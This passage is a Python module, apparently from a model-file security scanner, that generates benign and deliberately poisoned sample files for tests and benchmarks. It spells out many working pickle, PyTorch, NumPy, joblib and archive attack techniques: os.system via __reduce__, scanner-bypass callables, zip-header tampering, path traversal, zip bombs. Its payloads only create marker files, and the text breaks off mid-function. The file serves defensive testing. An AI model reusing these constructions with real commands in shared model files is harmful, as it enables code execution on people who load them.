"""A zoo of sample model files: benign ones, and one poisoned file per technique.

Used by ``make demo``, the test suite and the benchmarks. Every malicious
payload is harmless: it creates an empty *marker file* (by running ``touch``,
opening it, or logging to it) in a directory the caller chooses, so a test
can prove both that a real loader would have run it and that scanning never
does. Nothing here loads or unpickles anything.

Samples are built from the real libraries where they are installed (torch,
numpy, joblib, safetensors) and by hand otherwise, so the demo needs none of
them.
"""

from __future__ import annotations

import argparse
import bz2
import collections
import datetime
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = ["PickleAsm", "Sample", "build_benign", "build_malicious", "build_zoo", "detected"]

_SEVERITY_RANK = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
# A stronger rule also satisfies an expectation: a known-dangerous global is
# reported as such instead of merely "not on the allowlist".
_STRONGER = {"pickle-unlisted-global": {"pickle-dangerous-global"}}


@dataclass(frozen=True)
class Sample:
    """One file of the zoo and what a scanner should say about it."""

    name: str
    """Path relative to the zoo directory."""
    technique: str
    """Short identifier of the technique (or benign kind)."""
    description: str
    malicious: bool
    expected_rule: str | None = None
    """A rule that must fire (malicious samples)."""
    expected_severity: str | None = None
    """The lowest acceptable severity of that rule's finding."""
    loader: str | None = None
    """How a victim would load it: ``pickle``, ``pickle-all``, ``torch``, ``numpy``,
    ``numpy-npz``, ``joblib``; None when no common loader runs the payload."""
    marker: str | None = None
    """Name of the marker file the payload creates."""


def detected(sample: Sample, findings: list[tuple[str, str]]) -> bool:
    """Whether ``findings`` (``(rule_id, severity)`` pairs) meet ``sample``'s expectation."""
    if sample.expected_rule is None:
        return True
    rules = {sample.expected_rule} | _STRONGER.get(sample.expected_rule, set())
    floor = _SEVERITY_RANK[sample.expected_severity or "info"]
    return any(rule in rules and _SEVERITY_RANK[sev] >= floor for rule, sev in findings)


# ---------------------------------------------------------------------------
# A tiny pickle assembler, for streams that pickle.dumps cannot produce.
# ---------------------------------------------------------------------------


class PickleAsm:
    """Write pickle opcodes by hand: ``PickleAsm().proto(4).glob("os", "system")...``."""

    def __init__(self) -> None:
        self.out = bytearray()

    def raw(self, data: bytes) -> PickleAsm:
        self.out += data
        return self

    def proto(self, n: int) -> PickleAsm:
        return self.raw(bytes([0x80, n]))

    def glob(self, module: str, name: str) -> PickleAsm:
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def inst(self, module: str, name: str) -> PickleAsm:
        return self.raw(b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    def unicode(self, text: str) -> PickleAsm:
        data = text.encode("utf-8")
        if len(data) < 256:
            return self.raw(b"\x8c" + bytes([len(data)]) + data)
        return self.raw(b"X" + struct.pack("<I", len(data)) + data)

    def bytes_(self, data: bytes) -> PickleAsm:
        return self.raw(b"B" + struct.pack("<I", len(data)) + data)

    def binint(self, n: int) -> PickleAsm:
        return self.raw(b"J" + struct.pack("<i", n))

    def mark(self) -> PickleAsm:
        return self.raw(b"(")

    def tuple(self) -> PickleAsm:
        return self.raw(b"t")

    def tuple1(self) -> PickleAsm:
        return self.raw(b"\x85")

    def tuple2(self) -> PickleAsm:
        return self.raw(b"\x86")

    def empty_tuple(self) -> PickleAsm:
        return self.raw(b")")

    def empty_dict(self) -> PickleAsm:
        return self.raw(b"}")

    def empty_list(self) -> PickleAsm:
        return self.raw(b"]")

    def append(self) -> PickleAsm:
        return self.raw(b"a")

    def setitem(self) -> PickleAsm:
        return self.raw(b"s")

    def reduce(self) -> PickleAsm:
        return self.raw(b"R")

    def build(self) -> PickleAsm:
        return self.raw(b"b")

    def obj(self) -> PickleAsm:
        return self.raw(b"o")

    def newobj(self) -> PickleAsm:
        return self.raw(b"\x81")

    def stack_global(self) -> PickleAsm:
        return self.raw(b"\x93")

    def memoize(self) -> PickleAsm:
        return self.raw(b"\x94")

    def binput(self, i: int) -> PickleAsm:
        return self.raw(b"q" + bytes([i]))

    def binget(self, i: int) -> PickleAsm:
        return self.raw(b"h" + bytes([i]))

    def pop(self) -> PickleAsm:
        return self.raw(b"0")

    def none(self) -> PickleAsm:
        return self.raw(b"N")

    def ext1(self, code: int) -> PickleAsm:
        return self.raw(b"\x82" + bytes([code]))

    def binpersid(self) -> PickleAsm:
        return self.raw(b"Q")

    def stop(self) -> PickleAsm:
        return self.raw(b".")

    def bytes(self) -> bytes:
        return bytes(self.out)

    # A common shape: module.name(*string_args)
    def call(self, module: str, name: str, *args: str) -> PickleAsm:
        self.glob(module, name).mark()
        for a in args:
            self.unicode(a)
        return self.tuple().reduce()


def _system(cmd: str, protocol: int = 2) -> bytes:
    return (
        PickleAsm().proto(protocol).call("os", "system", cmd).stop().bytes()
        if protocol >= 2
        else (b"cos\nsystem\n(V" + cmd.encode("raw_unicode_escape") + b"\ntR.")
    )


class _Reduce:
    """An object whose pickle is ``func(*args)``: how real payloads are written."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


def _dumps(obj: Any, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


# ---------------------------------------------------------------------------
# Torch-format files written by hand (for machines without torch).
# ---------------------------------------------------------------------------


def _torch_data_pkl(tensors: dict[str, tuple[int, ...]]) -> bytes:
    """A data.pkl like torch.save of an OrderedDict of float32 tensors."""
    asm = PickleAsm().proto(2).glob("collections", "OrderedDict").empty_tuple().reduce()
    asm.mark()
    for i, (name, shape) in enumerate(tensors.items()):
        numel = 1
        for d in shape:
            numel *= d
        strides: list[int] = []
        acc = 1
        for d in reversed(shape):
            strides.insert(0, acc)
            acc *= d
        asm.unicode(name)
        asm.glob("torch._utils", "_rebuild_tensor_v2").mark()
        asm.mark().unicode("storage").glob("torch", "FloatStorage").unicode(str(i)).unicode(
            "cpu"
        ).binint(numel).tuple()
        asm.binpersid().binint(0)
        asm.mark()
        for d in shape:
            asm.binint(d)
        asm.tuple().mark()
        for s in strides:
            asm.binint(s)
        asm.tuple().raw(b"\x89")  # requires_grad=False
        asm.glob("collections", "OrderedDict").empty_tuple().reduce()
        asm.tuple().reduce()
    asm.raw(b"u")  # SETITEMS
    return asm.stop().bytes()


def _write_torch_zip(
    path: Path,
    data_pkl: bytes,
    storages: dict[str, bytes] | None = None,
    extra: dict[str, bytes] | None = None,
) -> None:
    prefix = path.stem
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", b"little")
        for key, raw in (storages or {}).items():
            z.writestr(f"{prefix}/data/{key}", raw)
        for name, raw in (extra or {}).items():
            z.writestr(f"{prefix}/{name}", raw)
        z.writestr(f"{prefix}/version", b"3\n")
        z.writestr(f"{prefix}/.data/serialization_id", b"0123456789")


def _patch_zip(
    path: Path,
    member: str,
    *,
    crc: int | None = None,
    local_name: bytes | None = None,
    encrypt: bool = False,
) -> None:
    """Tamper with a member's headers the way scanner-evasion samples do."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo(member)
    lh = info.header_offset
    # central directory entry: find it by name
    name = member.encode()
    cd = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x05\x06"))
    while cd >= 0:
        n_len = struct.unpack_from("<H", data, cd + 28)[0]
        if bytes(data[cd + 46 : cd + 46 + n_len]) == name:
            break
        cd = data.rfind(b"PK\x01\x02", 0, cd)
    if crc is not None:
        struct.pack_into("<I", data, lh + 14, crc)
        struct.pack_into("<I", data, cd + 16, crc)
    if local_name is not None:
        assert len(local_name) == len(name)
        data[lh + 30 : lh + 30 + len(name)] = local_name
    if encrypt:
        for off in (lh + 6, cd + 8):
            flags = struct.unpack_from("<H", data, off)[0]
            struct.pack_into("<H", data, off, flags | 1)
    path.write_bytes(bytes(data))


MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
PROTOCOL_VERSION = 1001


def _legacy_torch_bytes(main: bytes, *, first: bytes | None = None) -> bytes:
    """A legacy (non-zip) torch.save file around a hand-written main pickle."""
    sys_info = _dumps(
        {
            "protocol_version": PROTOCOL_VERSION,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        2,
    )
    magic = first if first is not None else _dumps(MAGIC_NUMBER, 2)
    return magic + _dumps(PROTOCOL_VERSION, 2) + sys_info + main + _dumps([], 2)


# ---------------------------------------------------------------------------
# Malicious samples
# ---------------------------------------------------------------------------


def build_malicious(out: Path, marker_dir: Path) -> list[Sample]:
    """Write one poisoned file per technique into ``out``.

    Every payload only creates a file in ``marker_dir``.
    """
    out.mkdir(parents=True, exist_ok=True)
    marker_dir.mkdir(parents=True, exist_ok=True)
    marker_dir = marker_dir.resolve()
    samples: list[Sample] = []

    def m(tag: str) -> str:
        return str(marker_dir / f"{tag}.marker")

    def add(
        name: str,
        data: bytes,
        technique: str,
        description: str,
        rule: str,
        severity: str = "critical",
        loader: str | None = None,
        marker: str | None = None,
    ) -> None:
        target = out / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        samples.append(Sample(name, technique, description, True, rule, severity, loader, marker))

    def touch(tag: str) -> str:
        return f"touch {m(tag)}"

    # -- pickle protocols 0-5 ------------------------------------------------
    for proto in range(6):
        tag = f"pickle-proto{proto}"
        add(
            f"pickle/proto{proto}.pkl",
            _dumps(_Reduce(os.system, touch(tag)), proto),
            tag,
            f"os.system via __reduce__, protocol {proto}",
            "pickle-dangerous-global",
            loader="pickle",
            marker=tag,
        )

    # -- opcode variants -----------------------------------------------------
    tag = "opcode-inst"
    add(
        "opcodes/inst.pkl",
        PickleAsm().mark().unicode(touch(tag)).inst("os", "system").stop().bytes(),
        tag,
        "INST opcode (protocol 0 instantiation) calling os.system",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "opcode-obj"
    add(
        "opcodes/obj.pkl",
        PickleAsm().mark().glob("os", "system").unicode(touch(tag)).obj().stop().bytes(),
        tag,
        "OBJ opcode calling os.system",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "opcode-stack-global-memo"
    memo = (
        PickleAsm()
        .proto(4)
        .unicode("os")
        .memoize()
        .pop()
        .unicode("system")
        .memoize()
        .pop()
        .binget(0)
        .binget(1)
        .stack_global()
        .unicode(touch(tag))
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )
    add(
        "opcodes/stack_global_memo.pkl",
        memo,
        tag,
        "STACK_GLOBAL whose names come back from the memo (MEMOIZE/BINGET)",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "opcode-stack-global-computed"
    computed = (
        PickleAsm()
        .proto(4)
        .glob("builtins", "str")
        .unicode("os")
        .tuple1()
        .reduce()
        .unicode("system")
        .stack_global()
        .unicode(touch(tag))
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )
    add(
        "opcodes/stack_global_computed.pkl",
        computed,
        tag,
        "STACK_GLOBAL whose module name is computed at load time (str('os'))",
        "pickle-dynamic-global",
        loader="pickle",
        marker=tag,
    )
    tag = "opcode-newobj"
    newobj = (
        PickleAsm()
        .proto(2)
        .glob("subprocess", "Popen")
        .mark()
        .unicode("true")
        .tuple()
        .newobj()
        .stop()
        .bytes()
    )
    add("opcodes/newobj.pkl", newobj, tag, "NEWOBJ of subprocess.Popen", "pickle-dangerous-global")
    tag = "opcode-reconstructor"
    recon = (
        PickleAsm()
        .proto(2)
        .glob("copyreg", "_reconstructor")
        .mark()
        .glob("subprocess", "Popen")
        .glob("subprocess", "Popen")
        .empty_list()
        .unicode("touch")
        .append()
        .unicode(m(tag))
        .append()
        .tuple()
        .reduce()
        .stop()
        .bytes()
    )
    add(
        "opcodes/reconstructor.pkl",
        recon,
        tag,
        "copyreg._reconstructor(Popen, Popen, argv): an allowlisted helper calling Popen.__init__",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "opcode-getattr-chain"
    chain = (
        PickleAsm()
        .proto(2)
        .glob("builtins", "getattr")
        .mark()
        .glob("builtins", "__import__")
        .mark()
        .unicode("os")
        .tuple()
        .reduce()
        .unicode("system")
        .tuple()
        .reduce()
        .mark()
        .unicode(touch(tag))
        .tuple()
        .reduce()
        .stop()
        .bytes()
    )
    add(
        "opcodes/getattr_chain.pkl",
        chain,
        tag,
        "getattr(__import__('os'), 'system')(cmd): calls a value built at load time",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "opcode-build-on-global"
    build = (
        PickleAsm()
        .proto(2)
        .glob("collections", "OrderedDict")
        .empty_dict()
        .unicode("__doc__")
        .unicode("patched")
        .setitem()
        .build()
        .stop()
        .bytes()
    )
    add(
        "opcodes/build_on_global.pkl",
        build,
        tag,
        "BUILD sets attributes on a class itself",
        "pickle-build-on-global",
        "high",
    )
    tag = "opcode-ext1"
    add(
        "opcodes/ext1.pkl",
        PickleAsm().proto(2).ext1(1).mark().unicode("x").tuple().reduce().stop().bytes(),
        tag,
        "EXT1: the global is whatever copyreg has registered as code 1",
        "pickle-extension-code",
        "high",
    )
    tag = "builtins-exec"
    add(
        "opcodes/exec.pkl",
        _dumps(_Reduce(exec, f"open({m(tag)!r}, 'w').close()"), 2),
        tag,
        "builtins.exec of Python source",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "builtins-eval-py2-name"
    add(
        "opcodes/eval_py2.pkl",
        PickleAsm()
        .proto(2)
        .call("__builtin__", "eval", f"open({m(tag)!r}, 'w').close()")
        .stop()
        .bytes(),
        tag,
        "__builtin__.eval (Python 2 name, mapped to builtins by the loader)",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "dotted-name-traversal"
    dotted = PickleAsm().proto(4).unicode("argparse").unicode("_os.system").stack_global()
    add(
        "opcodes/dotted_traversal.pkl",
        dotted.unicode(touch(tag)).tuple1().reduce().stop().bytes(),
        tag,
        "protocol-4 dotted name argparse._os.system: reaches os through an innocent module",
        "pickle-unlisted-global",
        "high",
        loader="pickle",
        marker=tag,
    )

    # -- streams: concatenated, broken, nested --------------------------------
    tag = "stream-second-pickle"
    add(
        "streams/second_pickle.pkl",
        _dumps({"weights": [1.0, 2.0]}, 2) + _system(touch(tag)),
        tag,
        "a benign pickle followed by a malicious one in the same file",
        "pickle-dangerous-global",
        loader="pickle-all",
        marker=tag,
    )
    tag = "stream-broken-after-payload"
    add(
        "streams/broken_after_payload.pkl",
        _system(touch(tag))[:-1] + b"\xff\xfe garbage",
        tag,
        "payload runs, then the stream breaks (no STOP)",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "nested-pickle-loads"
    inner = _system(touch(tag))
    add(
        "streams/nested_loads.pkl",
        _dumps(_Reduce(pickle.loads, inner), 4),
        tag,
        "pickle.loads of a bytes constant holding a second payload",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )

    # -- renamed extensions ----------------------------------------------------
    for ext, fname in (
        ("safetensors", "model.safetensors"),
        ("json", "config.json"),
        ("txt", "weights.txt"),
        ("none", "weights"),
        ("npy", "array.npy"),
    ):
        tag = f"renamed-{ext}"
        add(
            f"renamed/{fname}",
            _dumps(_Reduce(os.system, touch(tag)), 4),
            tag,
            f"pickle payload named {fname}",
            "pickle-dangerous-global",
            loader="pickle",
            marker=tag,
        )

    # -- bypasses of blocklist scanners (stdlib callables that run commands) -----
    import _osx_support
    import cProfile
    import imaplib
    import logging
    import pydoc
    import runpy
    import shutil
    import timeit
    import uuid

    # Private helpers, looked up by name: typeshed does not list them.
    get_command_stdout = vars(uuid)["_get_command_stdout"]
    run_module_code = vars(runpy)["_run_module_code"]
    bypasses: list[tuple[str, Any, str, str | None]] = [
        (
            "uuid-get-command-stdout",
            _Reduce(get_command_stdout, "touch", m("uuid-get-command-stdout")),
            "uuid._get_command_stdout runs a command",
            "pickle",
        ),
        (
            "imaplib-imap4-stream",
            _Reduce(imaplib.IMAP4_stream, touch("imaplib-imap4-stream")),
            "imaplib.IMAP4_stream runs a command as its transport",
            "pickle",
        ),
        (
            "osx-support-read-output",
            _Reduce(_osx_support._read_output, touch("osx-support-read-output")),
            "_osx_support._read_output runs a shell command",
            "pickle",
        ),
        (
            "pydoc-pipepager",
            _Reduce(pydoc.pipepager, "x", touch("pydoc-pipepager")),
            "pydoc.pipepager runs a pager command",
            "pickle",
        ),
        (
            "logging-filehandler",
            _Reduce(logging.FileHandler, m("logging-filehandler")),
            "logging.FileHandler creates (or truncates) any file",
            "pickle",
        ),
        (
            "cprofile-run",
            _Reduce(cProfile.run, f"open({m('cprofile-run')!r}, 'w').close()"),
            "cProfile.run executes Python source",
            "pickle",
        ),
        (
            "timeit",
            _Reduce(
                timeit.timeit, f"open({m('timeit')!r}, 'w').close()", "pass", time.perf_counter, 1
            ),
            "timeit.timeit executes Python source",
            "pickle",
        ),
        (
            "runpy-run-module-code",
            _Reduce(
                run_module_code,
                f"open({m('runpy-run-module-code')!r}, 'w').close()",
                None,
                "x",
            ),
            "runpy._run_module_code executes Python source",
            "pickle",
        ),
        (
            "shutil-copyfile",
            _Reduce(shutil.copyfile, os.__file__, m("shutil-copyfile")),
            "shutil.copyfile writes any file",
            "pickle",
        ),
        (
            "builtins-open",
            _Reduce(open, m("builtins-open"), "w"),
            "builtins.open creates or truncates any file",
            "pickle",
        ),
    ]
    for tag, obj, desc, loader in bypasses:
        add(
            f"bypass/{tag}.pkl",
            _dumps(obj, 4),
            tag,
            desc,
            "pickle-unlisted-global",
            "high",
            loader=loader,
            marker=tag,
        )
    tag = "posix-alias"
    add(
        "bypass/posix-alias.pkl",
        PickleAsm().proto(2).call("posix", "system", touch(tag)).stop().bytes(),
        tag,
        "posix.system: the os module's real name on Linux",
        "pickle-unlisted-global",
        "high",
        loader="pickle",
        marker=tag,
    )
    tag = "nt-alias"
    add(
        "bypass/nt-alias.pkl",
        PickleAsm().proto(2).call("nt", "system", "calc.exe").stop().bytes(),
        tag,
        "nt.system: the os module's real name on Windows",
        "pickle-unlisted-global",
        "high",
    )
    tag = "pip-main"
    add(
        "bypass/pip-main.pkl",
        PickleAsm()
        .proto(2)
        .glob("pip", "main")
        .mark()
        .empty_list()
        .unicode("--log")
        .append()
        .unicode(m(tag))
        .append()
        .unicode("--version")
        .append()
        .tuple()
        .reduce()
        .stop()
        .bytes(),
        tag,
        "pip.main runs pip (here: writes its log file)",
        "pickle-unlisted-global",
        "high",
    )
    tag = "torch-load-from-bytes"
    inner_legacy = _legacy_torch_bytes(_system(touch(tag)))
    add(
        "bypass/torch-load-from-bytes.pkl",
        PickleAsm()
        .proto(4)
        .glob("torch.storage", "_load_from_bytes")
        .bytes_(inner_legacy)
        .tuple1()
        .reduce()
        .stop()
        .bytes(),
        tag,
        "torch.storage._load_from_bytes: a nested torch.load with weights_only off",
        "pickle-unlisted-global",
        "high",
    )
    tag = "unknown-module"
    add(
        "bypass/unknown-module.pkl",
        PickleAsm().proto(2).call("totally_new_module", "helper", touch(tag)).stop().bytes(),
        tag,
        "a module no list has ever named",
        "pickle-unlisted-global",
        "high",
    )

    # -- PyTorch checkpoints -----------------------------------------------------
    tag = "torch-zip-data-pkl"
    _write_torch_zip(out / "torch/evil_state.pt", _system(touch(tag)))
    samples.append(
        Sample(
            "torch/evil_state.pt",
            tag,
            "torch zip whose data.pkl calls os.system",
            True,
            "pickle-dangerous-global",
            "critical",
            "torch",
            tag,
        )
    )
    tag = "torch-zip-other-member"
    _write_torch_zip(
        out / "torch/extra_member.pt",
        _torch_data_pkl({"w": (2,)}),
        storages={"0": bytes(8)},
        extra={"extra/hook.pkl": _system(touch(tag))},
    )
    samples.append(
        Sample(
            "torch/extra_member.pt",
            tag,
            "payload in a .pkl member other than data.pkl",
            True,
            "pickle-dangerous-global",
            "critical",
        )
    )
    tag = "torch-zip-bad-crc"
    _write_torch_zip(out / "torch/bad_crc.pt", _system(touch(tag)))
    _patch_zip(out / "torch/bad_crc.pt", "bad_crc/data.pkl", crc=0xDEADBEEF)
    samples.append(
        Sample(
            "torch/bad_crc.pt",
            tag,
            "data.pkl with a wrong CRC: zipfile refuses it, torch.load runs it",
            True,
            "pickle-dangerous-global",
            "critical",
            "torch",
            tag,
        )
    )
    tag = "torch-zip-local-name"
    _write_torch_zip(out / "torch/local_name.pt", _system(touch(tag)))
    _patch_zip(
        out / "torch/local_name.pt", "local_name/data.pkl", local_name=b"local_name/data.pkX"
    )
    samples.append(
        Sample(
            "torch/local_name.pt",
            tag,
            "local header names data.pkl differently from the central directory",
            True,
            "pickle-dangerous-global",
            "critical",
            "torch",
            tag,
        )
    )
    tag = "torch-zip-encrypted-flag"
    _write_torch_zip(out / "torch/encrypted_flag.pt", _system(touch(tag)))
    _patch_zip(out / "torch/encrypted_flag.pt", "encrypted_flag/data.pkl", encrypt=True)
    samples.append(
        Sample(
            "torch/encrypted_flag.pt",
            tag,
            "data.pkl flagged as encrypted (but plain)",
            True,
            "pickle-dangerous-global",
            "critical",
        )
    )
    tag = "torch-zip-duplicate-name"
    path = out / "torch/duplicate.pt"
    _write_torch_zip(path, _torch_data_pkl({"w": (2,)}), storages={"0": bytes(8)})
    with zipfile.ZipFile(path, "a") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        z.writestr("duplicate/data.pkl", _system(touch(tag)))
    samples.append(
        Sample(
            "torch/duplicate.pt",
            tag,
            "two members named data.pkl, the second malicious",
            True,
            "pickle-dangerous-global",
            "critical",
        )
    )
    tag = "torch-legacy-main"
    add(
        "torch/legacy_main.pt",
        _legacy_torch_bytes(_system(touch(tag))),
        tag,
        "legacy (non-zip) torch file whose object pickle calls os.system",
        "pickle-dangerous-global",
        loader="torch",
        marker=tag,
    )
    tag = "torch-legacy-first"
    add(
        "torch/legacy_first.pt",
        _legacy_torch_bytes(_dumps({}, 2), first=_system(touch(tag))),
        tag,
        "legacy torch file whose first (magic-number) pickle is the payload",
        "pickle-dangerous-global",
        loader="torch",
        marker=tag,
    )
    tag = "torch-legacy-tar"
    add(
        "torch/legacy.tar",
        _legacy_tar(_system(touch(tag))),
        tag,
        "PyTorch's tar checkpoint format with a malicious 'pickle' member",
        "pickle-dangerous-global",
    )
    tag = "torch-legacy-tar-storage-record"
    add(
        "torch/legacy_storage_record.tar",
        _legacy_tar(_dumps({}, 2), storage_payload=_system(touch(tag))),
        tag,
        "payload in the second record of a legacy tar's 'storages' member",
        "pickle-dangerous-global",
    )

    # -- NumPy and joblib -------------------------------------------------------
    tag = "numpy-object-array"
    add(
        "numpy/object.npy",
        _npy_object(_dumps(_Reduce(os.system, touch(tag)), 3)),
        tag,
        ".npy object array whose pickle calls os.system",
        "pickle-dangerous-global",
        loader="numpy",
        marker=tag,
    )
    tag = "numpy-npz-object"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.npy", _npy_object(_dumps(_Reduce(os.system, touch(tag)), 3)))
    add(
        "numpy/object.npz",
        buf.getvalue(),
        tag,
        ".npz member with a malicious object array",
        "pickle-dangerous-global",
        loader="numpy-npz",
        marker=tag,
    )
    tag = "joblib-payload"
    add(
        "joblib/model.joblib",
        _joblib_like(_Reduce(os.system, touch(tag))),
        tag,
        "joblib file whose object calls os.system",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )
    tag = "joblib-zlib"
    add(
        "joblib/model_compressed.joblib",
        zlib.compress(_joblib_like(_Reduce(os.system, touch(tag)))),
        tag,
        "zlib-compressed joblib file (joblib's compress=True)",
        "pickle-dangerous-global",
        loader="joblib",
        marker=tag,
    )

    # -- archives around pickles --------------------------------------------------
    payload = _dumps(_Reduce(os.system, "touch /nonexistent/openward-archive-sample"), 4)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model/weights.bin", payload)
    add(
        "archives/model.zip",
        buf.getvalue(),
        "zip-member",
        "pickle inside a deflated zip",
        "pickle-dangerous-global",
    )
    add(
        "archives/model.tar",
        _tar({"model/weights.pkl": payload}),
        "tar-member",
        "pickle inside a tar",
        "pickle-dangerous-global",
    )
    add(
        "archives/model.tar.gz",
        gzip.compress(_tar({"model.pkl": payload})),
        "tar-gz-member",
        "pickle inside a tar.gz",
        "pickle-dangerous-global",
    )
    add(
        "archives/model.pkl.gz",
        gzip.compress(payload),
        "gzip",
        "gzip-compressed pickle",
        "pickle-dangerous-global",
    )
    add(
        "archives/model.pkl.bz2",
        bz2.compress(payload),
        "bzip2",
        "bzip2-compressed pickle",
        "pickle-dangerous-global",
    )
    add(
        "archives/model.pkl.xz",
        lzma.compress(payload),
        "xz",
        "xz-compressed pickle",
        "pickle-dangerous-global",
    )
    add(
        "archives/model.7z",
        _sevenzip({"model.pkl": payload}),
        "7z-member",
        "pickle inside a 7z archive",
        "pickle-dangerous-global",
    )
    nested = payload
    for level in range(3):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(f"level{level}.zip" if level else "model.pkl", nested)
        nested = buf.getvalue()
    add(
        "archives/nested3.zip",
        nested,
        "nested-zip",
        "pickle three zips deep",
        "pickle-dangerous-global",
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("../../outside.pkl", b"data")
    add(
        "archives/traversal.zip",
        buf.getvalue(),
        "zip-path-traversal",
        "zip member named ../../outside.pkl",
        "archive-path-traversal",
        "high",
    )
    add(
        "archives/traversal.tar",
        _tar({"/etc/cron.d/evil": b"* * * * * root true\n"}),
        "tar-absolute-path",
        "tar member with an absolute path",
        "archive-path-traversal",
        "high",
    )
    add(
        "archives/symlink.tar",
        _tar({}, links={"model.bin": "/etc/passwd"}),
        "tar-symlink-escape",
        "tar symlink member pointing at /etc/passwd",
        "archive-link-escape",
        "high",
    )
    add(
        "archives/bomb.pkl.xz",
        _xz_bomb(),
        "xz-bomb",
        "xz stream expanding a millionfold",
        "archive-bomb",
        "high",
    )
    add(
        "archives/overlap.zip",
        _overlapping_zip(),
        "zip-overlap-bomb",
        "zip members sharing one compressed kernel (non-recursive zip bomb)",
        "archive-overlapping-members",
        "high",
    )
    deep = b"\x80\x04N."
    for level in range(9):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(f"d{level}.zip", deep)
        deep = buf.getvalue()
    add(
        "archives/deep.zip",
        deep,
        "deep-nesting",
        "nine zips deep (beyond max_depth)",
        "scan-limit-reached",
        "high",
    )
    polyglot = bytearray(_system(touch("polyglot")))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", _dumps({"w": 1}, 2))
    add(
        "archives/polyglot.pt",
        bytes(polyglot) + buf.getvalue(),
        "polyglot-pickle-zip",
        "a pickle payload with a zip appended: pickle.load runs the head, zip tools see the tail",
        "pickle-dangerous-global",
        loader="pickle",
        marker="polyglot",
    )
    hidden = _hidden_member_zip(_system(touch("zip-hidden")))
    add(
        "archives/hidden.zip",
        hidden,
        "zip-hidden-data",
        "a pickle between members, in no directory entry",
        "archive-hidden-data",
        "medium",
    )
    _evasion_samples(add, touch, m)
    _safetensors_samples(add, touch)
    _gguf_and_repository_samples(add, touch)
    _graph_format_samples(add)
    from openward._zoo import extend_malicious

    extend_malicious(add, touch)
    return samples


def _evasion_samples(
    add: Callable[..., None], touch: Callable[[str], str], m: Callable[[str], str]
) -> None:
    """Samples that exploit differences between loaders and naive readers."""

    def payload0(tag: str) -> bytes:  # protocol 0, no header
        return b"cos\nsystem\n(S'" + touch(tag).encode() + b"'\ntR."

    tag = "frame-first"
    frame = b"\x95" + struct.pack("<Q", 0)
    add(
        "evasion/frame_first.bin",
        frame + _system(touch(tag)),
        tag,
        "a pickle that starts with FRAME, not PROTO",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "zlib-lookalike"
    add(
        "evasion/zlib_lookalike.pkl",
        b"(S'x^'\n0" + payload0(tag),
        tag,
        "a protocol-0 pickle whose first bytes pass a zlib header check",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "gguf-magic"
    add(
        "evasion/model.gguf",
        b"GGUF\x03\x00\x00\x00\x000" + _system(touch(tag)),
        tag,
        "a pickle that starts with the GGUF magic (it parses as a float)",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "int-base0"
    add(
        "evasion/int_base0.pkl",
        b"I0x10\n0" + payload0(tag),
        tag,
        "an INT line in hexadecimal, which CPython's strtol accepts",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "npy-descr-object"
    header = "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    add(
        "evasion/descr_object.npy",
        npy + _dumps(_Reduce(os.system, touch(tag)), 3),
        tag,
        "an .npy whose dtype is spelled 'object' instead of '|O'",
        "pickle-dangerous-global",
        loader="numpy",
        marker=tag,
    )
    tag = "joblib-dtype-name"
    n = 4  # a float64 array of 4: 32 bytes that hold the payload's prelude
    wrapper = (
        PickleAsm()
        .proto(4)
        .glob("joblib.numpy_pickle", "NumpyArrayWrapper")
        .empty_tuple()
        .newobj()
        .empty_dict()
        .mark()
        .unicode("subclass")
        .glob("numpy", "ndarray")
        .unicode("shape")
        .binint(n)
        .tuple1()
        .unicode("order")
        .unicode("C")
        .unicode("dtype")
        .glob("numpy", "dtype")
